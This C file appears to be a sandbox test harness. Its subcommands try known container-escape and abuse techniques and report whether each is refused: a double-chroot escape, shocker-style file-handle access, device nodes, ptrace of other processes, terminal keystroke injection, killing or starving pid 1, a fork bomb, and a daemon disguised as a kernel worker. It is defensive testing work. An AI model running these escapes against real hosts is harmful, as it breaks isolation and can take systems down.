/* attack - tries to get out of a sandbox, one subcommand per way.
 *
 * spec/isolation_spec.lua and spec/limits_spec.lua compile it statically and run it inside.
 * Each line of output is "<what> <outcome>": `ok` when the attempt got through, otherwise the
 * name of the errno that refused it. Nothing here does lasting harm when it succeeds.
 *
 * With -DLOADER -nostdlib it is a dynamic loader instead, which a hostile image
 * puts in the place of its own: see `_start` at the end. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef LOADER

#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <ftw.h>
#include <linux/reboot.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <time.h>

static void tell_errno(const char *what, int sys)
{
    printf("%s %s\n", what, sys ? strerrorname_np(sys) : "ok");
    fflush(stdout);
}

static void tell(const char *what, long rc)
{
    tell_errno(what, rc < 0 ? errno : 0);
}

static int open_and_close(const char *path, int flags)
{
    int fd = open(path, flags | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
    if (fd >= 0)
        close(fd);
    return fd;
}

/* --- system calls that nothing in a sandbox needs ------------------------------------------------ */

static int cmd_mounts(char **argv)
{
    (void)argv;
    mkdir("/tmp/at", 0755);
    tell("tmpfs", mount("x", "/tmp/at", "tmpfs", 0, NULL));
    tell("proc", mount("x", "/tmp/at", "proc", 0, NULL));
    tell("sysfs", mount("x", "/tmp/at", "sysfs", 0, NULL));
    tell("cgroup", mount("x", "/tmp/at", "cgroup", 0, "memory"));
    tell("cgroup2", mount("x", "/tmp/at", "cgroup2", 0, NULL));
    tell("devpts", mount("x", "/tmp/at", "devpts", 0, NULL));
    tell("overlay", mount("x", "/tmp/at", "overlay", 0, "lowerdir=/,upperdir=/tmp,workdir=/tmp"));
    tell("bind", mount("/", "/tmp/at", NULL, MS_BIND, NULL));
    tell("move", mount("/proc", "/tmp/at", NULL, MS_MOVE, NULL));
    tell("remount-root", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
    tell("remount-sys", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
    tell("propagation", mount(NULL, "/", NULL, MS_REC | MS_SHARED, NULL));
    tell("umount-sys", umount2("/proc/sys", MNT_DETACH));
    tell("umount-mask", umount2("/proc/keys", MNT_DETACH));
    tell("umount-proc", umount2("/proc", MNT_DETACH));
    tell("umount-root", umount2("/", MNT_DETACH));
    tell("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
    tell("fsopen-proc", syscall(SYS_fsopen, "proc", 0));
    tell("fspick", syscall(SYS_fspick, AT_FDCWD, "/", 0));
    tell("fsmount", syscall(SYS_fsmount, 0, 0, 0));
    tell("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1));
    tell("move_mount", syscall(SYS_move_mount, AT_FDCWD, "/proc", AT_FDCWD, "/tmp/at", 0));
    tell("mount_setattr", syscall(442, AT_FDCWD, "/proc/sys", 0, NULL, 0));
    tell("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp"));
    return 0;
}

static int cmd_modules(char **argv)
{
    (void)argv;
    int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    tell("init_module", syscall(SYS_init_module, "x", 1, ""));
    tell("finit_module", syscall(SYS_finit_module, fd, "", 0));
    tell("delete_module", syscall(SYS_delete_module, "no_such_module", O_NONBLOCK));
    return 0;
}

static int cmd_kernel(char **argv)
{
    (void)argv;
    struct timeval now;
    struct timespec spec;
    struct timex adjust = {.modes = ADJ_STATUS};
    static char buf[256]; /* zeroes: what a call with an attribute structure might take */
    gettimeofday(&now, NULL);
    clock_gettime(CLOCK_REALTIME, &spec);
    tell("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
    tell("kexec_file_load", syscall(SYS_kexec_file_load, 0, -1, 0, "", 4 /* no initrd */));
    tell("reboot", syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, LINUX_REBOOT_CMD_CAD_ON, NULL));
    tell("swapon", syscall(SYS_swapon, "/tmp/none", 0));
    tell("swapoff", syscall(SYS_swapoff, "/tmp/none"));
    tell("bpf", syscall(SYS_bpf, 0, buf, sizeof buf));
    tell("perf_event_open", syscall(SYS_perf_event_open, buf, 0, -1, -1, 0));
    tell("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC | 1));
    tell("io_uring_setup", syscall(SYS_io_uring_setup, 1, buf));
    tell("io_uring_enter", syscall(SYS_io_uring_enter, 0, 0, 0, 0, NULL));
    tell("io_uring_register", syscall(SYS_io_uring_register, 0, 0, NULL, 0));
    tell("keyctl", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0));
    tell("add_key", syscall(SYS_add_key, "user", "x", "x", 1, -2));
    tell("request_key", syscall(SYS_request_key, "user", "x", NULL, -2));
    tell("personality", syscall(SYS_personality, 0x0400000 /* READ_IMPLIES_EXEC */));
    tell("acct", syscall(SYS_acct, "/tmp/none"));
    tell("settimeofday", syscall(SYS_settimeofday, &now, NULL));
    tell("clock_settime", syscall(SYS_clock_settime, CLOCK_REALTIME, &spec));
    tell("adjtimex", adjtimex(&adjust));
    tell("syslog", syscall(SYS_syslog, 3, buf, sizeof buf));
    tell("quotactl", syscall(SYS_quotactl, 0, NULL, 0, NULL));
    tell("fanotify_init", syscall(SYS_fanotify_init, 0, 0));
    tell("sethostname", syscall(SYS_sethostname, "x", 1));
    tell("setdomainname", syscall(SYS_setdomainname, "x", 1));
    tell("vhangup", syscall(SYS_vhangup));
    tell("kcmp", syscall(SYS_kcmp, 1, getpid(), 0, 0, 0));
    tell("move_pages", syscall(SYS_move_pages, 1, 0, NULL, NULL, NULL, 0));
    tell("nice", setpriority(PRIO_PROCESS, 0, -5));
#ifdef SYS_iopl
    tell("iopl", syscall(SYS_iopl, 3));
    tell("ioperm", syscall(SYS_ioperm, 0x80, 1, 1));
    tell("modify_ldt", syscall(SYS_modify_ldt, 0, buf, sizeof buf));
#endif
    return 0;
}

static int cmd_namespaces(char **argv)
{
    (void)argv;
    static const struct {
        const char *name;
        unsigned flag;
    } kinds[] = {{"user", CLONE_NEWUSER}, {"mnt", CLONE_NEWNS}, {"pid", CLONE_NEWPID}, {"net", CLONE_NEWNET},
                 {"ipc", CLONE_NEWIPC}, {"uts", CLONE_NEWUTS}, {"cgroup", CLONE_NEWCGROUP}};
    char what[64], path[64];
    for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++) {
        snprintf(what, sizeof what, "unshare-%s", kinds[i].name);
        tell(what, unshare((int)kinds[i].flag));
        for (int high = 0; high < 2; high++) {
            unsigned long flags = kinds[i].flag | SIGCHLD | (high ? 1UL << 40 : 0);
            snprintf(what, sizeof what, "clone-%s%s", kinds[i].name, high ? "-high" : "");
            long pid = syscall(SYS_clone, flags, NULL, NULL, NULL, NULL);
            if (pid == 0)
                _exit(0);
            tell(what, pid);
        }
        snprintf(what, sizeof what, "setns-%s", kinds[i].name);
        snprintf(path, sizeof path, "/proc/self/ns/%s", kinds[i].name);
        tell(what, setns(open(path, O_RDONLY | O_CLOEXEC), 0));
    }
    uint64_t args[11] = {CLONE_NEWUSER, [4] = SIGCHLD};
    long pid = syscall(435 /* clone3 */, args, sizeof args);
    if (pid == 0)
        _exit(0);
    tell("clone3", pid);
    return 0;
}

#ifdef __x86_64__
static long call32(long nr, long a, long b, long c)
{
    long rc;
    __asm__ volatile("int $0x80" : "=a"(rc) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
    if (rc < 0)
        errno = (int)-rc;
    return rc;
}
#endif

/* The filter knows one set of call numbers; the others the kernel understands must not go round it. */
static int cmd_abi(char **argv)
{
    (void)argv;
#ifdef __x86_64__
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) {
        tell("i386-unshare", call32(310, CLONE_NEWUTS, 0, 0));
        tell("i386-mount", call32(21, 0, 0, 0));
        tell("i386-ptrace", call32(26, PTRACE_TRACEME, 0, 0));
        tell("i386-getpid", call32(20, 0, 0, 0));
        _exit(0);
    }
    int status = 0;
    waitpid(pid, &status, 0);
    if (status)
        printf("i386 signal-%d\n", WTERMSIG(status));
    tell("x32-unshare", syscall(0x40000000 + SYS_unshare, CLONE_NEWUTS));
    tell("x32-getpid", syscall(0x40000000 + SYS_getpid));
#endif
    return 0;
}

/* --- files ---------------------------------------------------------------------------------------- */

/* argv: paths to be opened for reading. */
static int cmd_open(char **argv)
{
    for (; *argv; argv++)
        tell(*argv, open_and_close(*argv, O_RDONLY));
    return 0;
}

/* The way "shocker" went: a handle made up from an inode number, and any file of the file system. */
static int cmd_handle(char **argv)
{
    (void)argv;
    static const char *const anchors[] = {"/", "/etc/hosts", "/etc/hostname", "/dev/null", "/dev/shm", "/proc/self/fd/0"};
    union {
        struct file_handle head;
        char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } own, root = {.head = {.handle_bytes = 8, .handle_type = 1}};
    uint32_t inode2[2] = {2, 0};
    memcpy(root.head.f_handle, inode2, sizeof inode2);
    for (size_t i = 0; i < sizeof anchors / sizeof *anchors; i++) {
        char what[64];
        int id, fd = open(anchors[i], O_RDONLY | O_CLOEXEC);
        snprintf(what, sizeof what, "root-by-%s", anchors[i]);
        tell(what, open_by_handle_at(fd, &root.head, O_RDONLY));
        own.head.handle_bytes = MAX_HANDLE_SZ;
        if (name_to_handle_at(AT_FDCWD, anchors[i], &own.head, &id, 0) == 0) {
            snprintf(what, sizeof what, "own-%s", anchors[i]);
            tell(what, open_by_handle_at(fd, &own.head, O_RDONLY));
        }
    }
    return 0;
}

static int cmd_mknod(char **argv)
{
    static const char *const dirs[] = {"", "/tmp", "/dev/shm", "/dev"};
    static const struct {
        const char *name;
        mode_t type;
        unsigned major, minor;
    } nodes[] = {{"mem", S_IFCHR, 1, 1}, {"kmsg", S_IFCHR, 1, 11}, {"sda", S_IFBLK, 8, 0}, {"vda", S_IFBLK, 254, 0},
                 {"loop", S_IFBLK, 7, 0}, {"fuse", S_IFCHR, 10, 229}, {"null", S_IFCHR, 1, 3}};
    char path[300], what[320];
    (void)argv;
    for (size_t d = 0; d < sizeof dirs / sizeof *dirs; d++)
        for (size_t i = 0; i < sizeof nodes / sizeof *nodes; i++) {
            snprintf(path, sizeof path, "%s/attack-%s", dirs[d], nodes[i].name);
            int rc = mknod(path, nodes[i].type | 0666, makedev(nodes[i].major, nodes[i].minor));
            tell(path, rc);
            if (rc == 0) {
                snprintf(what, sizeof what, "%s-open", path);
                tell(what, open_and_close(path, O_RDONLY));
            }
        }
    return 0;
}

/* Leaves a mark on the root directory that is no entry in it. */
static int cmd_mark(char **argv)
{
    struct timespec old[2] = {{.tv_sec = 86400}, {.tv_sec = 86400}};
    (void)argv;
    tell("user", setxattr("/", "user.mark", "x", 1, 0));
    tell("overlay", setxattr("/", "user.overlay.mark", "x", 1, 0));
    tell("times", utimensat(AT_FDCWD, "/", old, 0));
    tell("shm", creat("/dev/shm/mark", 0666));
    tell("queue", creat("/dev/mqueue/mark", 0666));
    tell("segment", shmget(4711, 4096, IPC_CREAT | 0666));
    return 0;
}

/* Looks for the marks of another run. */
static int cmd_marks(char **argv)
{
    struct stat st;
    char value[8];
    (void)argv;
    stat("/", &st);
    tell("user", getxattr("/", "user.mark", value, sizeof value));
    tell("overlay", getxattr("/", "user.overlay.mark", value, sizeof value));
    printf("times %s\n", st.st_mtime == 86400 || st.st_atime == 86400 ? "old" : "new");
    tell("shm", access("/dev/shm/mark", F_OK));
    tell("queue", access("/dev/mqueue/mark", F_OK));
    tell("segment", shmget(4711, 4096, 0));
    return 0;
}

/* argv: a path. A socket needs nobody to listen to be in a directory. */
static int cmd_socket(char **argv)
{
    tell("socket", mknod(argv[0], S_IFSOCK | 0666, 0));
    return 0;
}

/* Descriptors beyond the three, and what the three are. */
static int cmd_descriptors(char **argv)
{
    (void)argv;
    DIR *d = opendir("/proc/self/fd");
    struct dirent *e;
    int count = 0;
    while (d && (e = readdir(d)) != NULL) {
        struct stat st;
        int fd = atoi(e->d_name);
        if (e->d_name[0] == '.' || fd == dirfd(d))
            continue;
        count++;
        fstat(fd, &st);
        printf("%d %s\n", fd, S_ISDIR(st.st_mode) ? "directory" : S_ISFIFO(st.st_mode) ? "pipe" : S_ISCHR(st.st_mode) ? "device"
                              : S_ISREG(st.st_mode) ? "file" : S_ISSOCK(st.st_mode) ? "socket" : "other");
    }
    printf("count %d\n", count);
    return 0;
}

/* argv: a path of the host. Climbs from the working directory. */
static int cmd_climb(char **argv)
{
    char path[4200];
    struct stat root, here;
    if (!getcwd(path, sizeof path))
        strcpy(path, "none");
    printf("cwd %s\n", path);
    snprintf(path, sizeof path, "../../../../../../../../../../../../../../../..%s", argv[0]);
    tell("host", open_and_close(path, O_RDONLY));
    tell("store", open_and_close("../../bough.db", O_RDONLY));
    for (int i = 0; i < 30; i++)
        (void)!chdir("..");
    stat("/", &root);
    stat(".", &here);
    printf("top %s\n", root.st_dev == here.st_dev && root.st_ino == here.st_ino ? "root" : "elsewhere");
    return 0;
}

/* The classic: a second chroot leaves the first one's working directory outside of it. */
static int cmd_chroot(char **argv)
{
    mkdir("/tmp/jail", 0755);
    int fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    tell("chroot", chroot("/tmp/jail"));
    tell("fchdir", fchdir(fd));
    for (int i = 0; i < 100; i++)
        (void)!chdir("..");
    tell("again", chroot("."));
    tell("host", open_and_close(argv[0], O_RDONLY));
    tell("self", open_and_close("/attack", O_RDONLY));
    return 0;
}

/* argv: the helper's program file, by any path. Tries every way to open it for writing. */
static int cmd_overwrite(char **argv)
{
    char again[64];
    int held = open(argv[0], O_PATH | O_CLOEXEC);
    tell("path", held);
    if (held >= 0) {
        snprintf(again, sizeof again, "/proc/self/fd/%d", held);
        tell("reopen", open_and_close(again, O_WRONLY));
    }
    tell("write", open_and_close(argv[0], O_WRONLY));
    tell("append", open_and_close(argv[0], O_RDWR | O_APPEND));
    int fd = open(argv[0], O_RDONLY | O_CLOEXEC);
    if (fd >= 0) {
        int seals = fcntl(fd, F_GET_SEALS);
        printf("seals %s\n", seals >= 0 && (seals & 15) == 15 ? "all" : "missing");
        tell("truncate", ftruncate(fd, 0));
    }
    return 0;
}

static int try_write(const char *path, const struct stat *st, int type, struct FTW *at)
{
    (void)at;
    if (type != FTW_F || !S_ISREG(st->st_mode))
        return 0;
    int fd = open(path, O_WRONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
    if (fd >= 0) {
        /* Opening shows nothing yet: most of /proc takes no writes, which the kernel says with EIO. */
        if (write(fd, "", 0) >= 0 || errno != EIO)
            printf("%s ok\n", path);
        close(fd);
    }
    return 0;
}

/* Everything below /proc (but for processes) and /sys that takes writes. */
static int cmd_knobs(char **argv)
{
    (void)argv;
    char path[300];
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d)) != NULL) {
        snprintf(path, sizeof path, "/proc/%s", e->d_name);
        if (strspn(e->d_name, "0123456789") != strlen(e->d_name) && e->d_name[0] != '.' && e->d_type != DT_LNK)
            nftw(path, try_write, 16, FTW_PHYS);
    }
    nftw("/sys", try_write, 16, FTW_PHYS);
    printf("done ok\n");
    return 0;
}

/* argv: mode in octal, then a path or descriptor link. */
static int cmd_chmod(char **argv)
{
    for (char **p = argv + 1; *p; p++)
        tell(*p, chmod(*p, (mode_t)strtol(argv[0], NULL, 8)));
    return 0;
}

/* Who this process is: for a setuid copy of this program. */
static int cmd_whoami(char **argv)
{
    (void)argv;
    printf("uid %d\neuid %d\n", (int)getuid(), (int)geteuid());
    return 0;
}

/* --- processes ------------------------------------------------------------------------------------ */

/* Tries to get at the memory and the descriptors of a process. */
static void pry(int pid)
{
    char word[64], path[64];
    struct iovec to = {word, sizeof word}, from = {(void *)0x400000, sizeof word};
    int fd = (int)syscall(434 /* pidfd_open */, pid, 0);
    static const char *const names[] = {"environ", "maps", "root/", "cwd/", "exe", "ns/mnt"};
    tell("ptrace-attach", ptrace(PTRACE_ATTACH, pid, NULL, NULL));
    tell("ptrace-seize", ptrace(PTRACE_SEIZE, pid, NULL, NULL));
    tell("process_vm_readv", process_vm_readv(pid, &to, 1, &from, 1, 0));
    tell("process_vm_writev", process_vm_writev(pid, &to, 1, &from, 1, 0));
    tell("pidfd_getfd", syscall(438, fd, 0, 0));
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    tell("mem", open_and_close(path, O_RDWR));
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, names[i]);
        tell(names[i], open_and_close(path, O_RDONLY));
    }
    snprintf(path, sizeof path, "/proc/%d/fd/0", pid);
    tell("fd", open_and_close(path, O_RDONLY));
    snprintf(path, sizeof path, "/proc/%d/map_files/0-1", pid);
    tell("map_files", readlink(path, word, 8));
}

/* argv: a process of the same sandbox. */
static int cmd_pry(char **argv)
{
    pry(atoi(argv[0]));
    return 0;
}

/* argv: pids of the host. */
static int cmd_outside(char **argv)
{
    char what[64];
    pry(1);
    for (; *argv; argv++) {
        snprintf(what, sizeof what, "kill-%s", *argv);
        tell(what, kill(atoi(*argv), 0));
        snprintf(what, sizeof what, "pidfd-%s", *argv);
        tell(what, syscall(434, atoi(*argv), 0));
    }
    tell("init-survives", kill(1, SIGKILL));
    usleep(10000);
    tell("init-is-there", kill(1, 0));
    return 0;
}

/* Slows pid 1 down as far as the kernel lets it, so that it is late with killing at the time limit. argv: how many
 * processes keep it from running meanwhile. */
static int cmd_starve(char **argv)
{
    struct sched_param param = {0};
    struct rlimit none = {0, 0};
    cpu_set_t one;
    struct {
        uint32_t size, policy;
        uint64_t rest[6];
    } attr = {.size = 48, .policy = SCHED_IDLE};
    CPU_ZERO(&one);
    CPU_SET(0, &one);
    tell("scheduler", sched_setscheduler(1, SCHED_IDLE, &param));
    tell("scheduler-high", syscall(SYS_sched_setscheduler, 1UL | 1UL << 32, SCHED_IDLE, &param));
    tell("attr", syscall(SYS_sched_setattr, 1, &attr, 0));
    tell("param", sched_setparam(1, &param));
    tell("affinity", sched_setaffinity(1, sizeof one, &one));
    tell("nice", setpriority(PRIO_PROCESS, 1, 19));
    tell("nice-user", setpriority(PRIO_USER, 0, 19));
    tell("io", syscall(SYS_ioprio_set, 1 /* process */, 1, 3 << 13));
    tell("io-user", syscall(SYS_ioprio_set, 3 /* user */, 0, 3 << 13));
    if (atoi(argv[0]) == 0) /* the last one, because it is the end when it succeeds */
        tell("rlimit", prlimit(1, RLIMIT_CPU, &none, NULL));
    for (int i = 0; i < atoi(argv[0]); i++)
        if (fork() == 0)
            for (;;)
                continue;
    for (;;)
        pause();
    return 0;
}

/* --- terminals ------------------------------------------------------------------------------------ */

static void type_into(const char *name, int fd)
{
    static const unsigned long high[] = {0, 1UL << 32, 0xdead00000000UL};
    char what[64], paste = 3;
    for (size_t h = 0; h < sizeof high / sizeof *high; h++) {
        int sys = 0;
        for (const char *c = "INJECTED\n"; *c && !sys; c++)
            if (syscall(SYS_ioctl, fd, TIOCSTI | high[h], c) < 0)
                sys = errno;
        snprintf(what, sizeof what, "%s-sti-%zu", name, h);
        tell_errno(what, sys);
        snprintf(what, sizeof what, "%s-linux-%zu", name, h);
        tell(what, syscall(SYS_ioctl, fd, TIOCLINUX | high[h], &paste));
    }
}

/* A terminal of its own, where typing into it would be allowed but for the filter. */
static int cmd_own_tty(char **argv)
{
    char name[64];
    (void)argv;
    int master = posix_openpt(O_RDWR | O_NOCTTY);
    tell("ptmx", master);
    fflush(stdout);
    if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0 || ptsname_r(master, name, sizeof name) != 0)
        return 1;
    pid_t pid = fork();
    if (pid == 0) {
        setsid();
        int fd = open(name, O_RDWR);
        tell("ctty", ioctl(fd, TIOCSCTTY, 0));
        type_into("pty", fd);
        _exit(0);
    }
    waitpid(pid, NULL, 0);
    return 0;
}

/* Whatever terminal the caller left within reach. */
static int cmd_caller_tty(char **argv)
{
    (void)argv;
    int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
    tell("tty", fd);
    for (int i = 0; i < 3; i++) {
        char name[8];
        snprintf(name, sizeof name, "fd%d", i);
        type_into(name, i);
    }
    if (fd >= 0)
        type_into("tty", fd);
    return 0;
}

/* For the host's side: argv: a command. Runs it with a terminal of its own for stdin, stdout and stderr, passes on
 * what it prints, and tells at its end how many bytes have been typed into that terminal. */
static int cmd_pty(char **argv)
{
    char name[64], text[4096];
    int master = posix_openpt(O_RDWR | O_NOCTTY), typed = 0;
    if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0 || ptsname_r(master, name, sizeof name) != 0)
        return 1;
    int fd = open(name, O_RDWR | O_NOCTTY);
    struct termios raw;
    tcgetattr(fd, &raw);
    cfmakeraw(&raw);
    tcsetattr(fd, TCSANOW, &raw);
    pid_t pid = fork();
    if (pid == 0) {
        setsid();
        ioctl(fd, TIOCSCTTY, 0);
        for (int i = 0; i < 3; i++)
            dup2(fd, i);
        close(master);
        close(fd);
        signal(SIGHUP, SIG_IGN);
        execvp(argv[0], argv);
        _exit(127);
    }
    int status = -1;
    fcntl(master, F_SETFL, O_NONBLOCK);
    for (bool over = false; !over; usleep(1000)) {
        over = waitpid(pid, &status, WNOHANG) == pid;
        ssize_t n;
        while ((n = read(master, text, sizeof text)) > 0)
            fwrite(text, 1, (size_t)n, stdout);
    }
    ioctl(fd, FIONREAD, &typed);
    printf("status %d\ntyped %d\n", status, typed);
    return 0;
}

/* --- sockets -------------------------------------------------------------------------------------- */

static socklen_t abstract(struct sockaddr_un *at, const char *name)
{
    *at = (struct sockaddr_un){.sun_family = AF_UNIX};
    strncpy(at->sun_path + 1, name, sizeof at->sun_path - 2);
    return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
}

/* For the host's side: argv: a name. Prints its TCP port and its pid, and stays for a minute at most. */
static int cmd_listen(char **argv)
{
    struct sockaddr_un un;
    struct sockaddr_in in = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t size = sizeof in;
    int local = socket(AF_UNIX, SOCK_STREAM, 0), tcp = socket(AF_INET, SOCK_STREAM, 0);
    socklen_t length = abstract(&un, argv[0]);
    if (bind(local, (struct sockaddr *)&un, length) < 0 || listen(local, 8) < 0 ||
        bind(tcp, (struct sockaddr *)&in, sizeof in) < 0 || listen(tcp, 8) < 0 ||
        getsockname(tcp, (struct sockaddr *)&in, &size) < 0) {
        perror("listen");
        return 1;
    }
    printf("%d %d\n", ntohs(in.sin_port), (int)getpid());
    fflush(stdout);
    alarm(60);
    pause();
    return 0;
}

/* argv: an abstract name and a port. */
static int cmd_connect(char **argv)
{
    struct sockaddr_un un;
    struct sockaddr_in in = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[1])),
                             .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    struct sockaddr_in far = {.sin_family = AF_INET, .sin_port = htons(53), .sin_addr.s_addr = htonl(0xc0000201)};
    int local = socket(AF_UNIX, SOCK_STREAM, 0), tcp = socket(AF_INET, SOCK_STREAM, 0);
    tell("socket", tcp);
    socklen_t length = abstract(&un, argv[0]);
    tell("abstract", connect(local, (struct sockaddr *)&un, length));
    tell("tcp", connect(tcp, (struct sockaddr *)&in, sizeof in));
    int out = socket(AF_INET, SOCK_DGRAM, 0);
    tell("far", connect(out, (struct sockaddr *)&far, sizeof far));
    return 0;
}

static int cmd_sockets(char **argv)
{
    (void)argv;
    tell("unix", socket(AF_UNIX, SOCK_STREAM, 0));
    tell("pair", socketpair(AF_UNIX, SOCK_STREAM, 0, (int[2]){0}));
    tell("tcp", socket(AF_INET, SOCK_STREAM, 0));
    tell("tcp6", socket(AF_INET6, SOCK_STREAM, 0));
    tell("udp", socket(AF_INET, SOCK_DGRAM, 0));
    tell("netlink", socket(AF_NETLINK, SOCK_RAW, 0));
    tell("raw", socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
    tell("raw6", socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6));
    tell("packet", socket(AF_PACKET, SOCK_RAW, htons(3)));
    tell("vsock", socket(40, SOCK_STREAM, 0));
    tell("vsock-high", syscall(SYS_socket, 40UL | 1UL << 32, SOCK_STREAM, 0));
    tell("alg", socket(38, SOCK_SEQPACKET, 0));
    tell("bluetooth", socket(31, SOCK_RAW, 1));
    tell("can", socket(29, SOCK_RAW, 1));
    return 0;
}

/* --- limits --------------------------------------------------------------------------------------- */

/* argv: megabytes. Touches every page. */
static int cmd_eat(char **argv)
{
    long want = atol(argv[0]);
    for (long i = 0; i < want; i++) {
        char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (p == MAP_FAILED) {
            printf("refused %ld\n", i);
            return 3;
        }
        memset(p, (int)i + 1, 1 << 20);
    }
    printf("ate %ld\n", want);
    return 0;
}

/* argv: megabytes. A file without a name, in memory that no address space shows. */
static int cmd_memfd(char **argv)
{
    static char chunk[1 << 20];
    int fd = memfd_create("hoard", MFD_CLOEXEC);
    memset(chunk, 'x', sizeof chunk);
    for (long i = 0; i < atol(argv[0]); i++)
        if (write(fd, chunk, sizeof chunk) < 0) {
            tell("write", -1);
            return 3;
        }
    printf("hoarded %s\n", argv[0]);
    return 0;
}

/* argv: how many at most. Each child stays. */
static int cmd_forks(char **argv)
{
    long most = atol(argv[0]), made = 0;
    int sys = 0;
    fflush(stdout);
    while (made < most && !sys) {
        pid_t pid = fork();
        if (pid == 0)
            for (;;)
                pause();
        if (pid < 0)
            sys = errno;
        else
            made++;
    }
    printf("made %ld\n", made);
    tell_errno("fork", sys);
    return 0;
}

static void *stay(void *arg)
{
    (void)arg;
    for (;;)
        pause();
    return NULL;
}

static int cmd_threads(char **argv)
{
    long most = atol(argv[0]), made = 0;
    pthread_attr_t attr;
    pthread_t thread;
    int sys = 0;
    pthread_attr_init(&attr);
    pthread_attr_setstacksize(&attr, 32768);
    while (made < most && !(sys = pthread_create(&thread, &attr, stay, NULL)))
        made++;
    printf("made %ld\n", made);
    tell_errno("thread", sys);
    return 0;
}

/* Forks as fast as it can, children too, for ever. */
static int cmd_bomb(char **argv)
{
    (void)argv;
    signal(SIGTERM, SIG_IGN);
    for (;;)
        if (fork() < 0)
            sched_yield();
    return 0;
}

static int cmd_opens(char **argv)
{
    int count = 3, fd;
    (void)argv;
    while ((fd = open("/dev/null", O_RDONLY)) >= 0)
        count = fd + 1;
    printf("count %d\n", count);
    tell("open", fd);
    return 0;
}

/* argv: seconds of processor time to use. */
static int cmd_burn(char **argv)
{
    double want = atof(argv[0]);
    struct timespec t;
    do
        clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t);
    while ((double)t.tv_sec + (double)t.tv_nsec / 1e9 < want);
    return 0;
}

/* argv: how many, anything (a mark for ps). Empty files, until they are refused. */
static int cmd_files(char **argv)
{
    long most = atol(argv[0]), made = 0;
    char name[64];
    int fd = 0;
    mkdir("/many", 0755);
    for (; made < most; made++) {
        snprintf(name, sizeof name, "/many/%ld", made);
        fd = open(name, O_WRONLY | O_CREAT | O_EXCL, 0644);
        if (fd < 0 || write(fd, name, strlen(name)) < 0)
            break;
        close(fd);
    }
    printf("made %ld\n", made);
    tell_errno("file", made < most ? errno : 0);
    return 0;
}

/* argv: anything (a mark for ps). A daemon that no signal but SIGKILL ends; the parent waits for ever. */
static int cmd_daemon(char **argv)
{
    (void)argv;
    for (int sig = 1; sig < 32; sig++)
        signal(sig, SIG_IGN);
    printf("so far\n");
    fflush(stdout);
    if (fork() == 0) {
        setsid();
        if (fork() == 0)
            prctl(PR_SET_NAME, "kworker/0:0");
    }
    for (;;)
        pause();
    return 0;
}

int main(int argc, char **argv)
{
    static const struct {
        const char *name;
        int args;
        int (*run)(char **);
    } all[] = {
        {"mounts", 0, cmd_mounts}, {"modules", 0, cmd_modules}, {"kernel", 0, cmd_kernel},
        {"namespaces", 0, cmd_namespaces}, {"abi", 0, cmd_abi}, {"open", 1, cmd_open}, {"handle", 0, cmd_handle},
        {"mknod", 0, cmd_mknod}, {"descriptors", 0, cmd_descriptors}, {"climb", 1, cmd_climb},
        {"chroot", 1, cmd_chroot}, {"overwrite", 1, cmd_overwrite}, {"knobs", 0, cmd_knobs},
        {"chmod", 2, cmd_chmod}, {"mark", 0, cmd_mark}, {"marks", 0, cmd_marks}, {"socket", 1, cmd_socket}, {"pty", 1, cmd_pty}, {"whoami", 0, cmd_whoami}, {"outside", 0, cmd_outside}, {"pry", 1, cmd_pry}, {"starve", 1, cmd_starve},
        {"own-tty", 0, cmd_own_tty}, {"caller-tty", 0, cmd_caller_tty}, {"listen", 1, cmd_listen},
        {"connect", 2, cmd_connect}, {"sockets", 0, cmd_sockets}, {"eat", 1, cmd_eat}, {"memfd", 1, cmd_memfd}, {"forks", 1, cmd_forks},
        {"threads", 1, cmd_threads}, {"bomb", 0, cmd_bomb}, {"opens", 0, cmd_opens}, {"burn", 1, cmd_burn},
        {"files", 1, cmd_files}, {"daemon", 0, cmd_daemon},
    };
